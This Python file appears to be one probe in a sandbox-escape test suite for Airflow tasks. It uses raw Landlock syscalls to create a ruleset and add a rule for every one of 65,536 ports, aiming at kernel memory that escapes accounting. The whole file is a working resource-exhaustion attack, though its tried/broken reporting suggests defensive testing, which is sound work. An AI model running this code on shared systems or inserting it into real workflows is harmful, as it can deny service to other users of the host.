"""Makes rules for itself without end, which the kernel keeps and nobody counts."""

import ctypes
import struct

from airflow_attack import attack, broken, call, tried

PORT, CONNECT = 2, 2
MANY = 65536


def work() -> None:
    attributes = struct.pack("QQ", 0, CONNECT)
    rules = call("landlock_create_ruleset", ctypes.c_char_p(attributes), len(attributes), 0)
    tried(f"a set of rules: {rules}")
    if rules >= 0:
        held = 0
        for port in range(MANY):
            rule = ctypes.c_char_p(struct.pack("=QQ", CONNECT, port))
            held += call("landlock_add_rule", rules, PORT, rule, 0) == 0
        broken(f"{held} rules, and as many more as there are descriptors")


dag = attack(work)
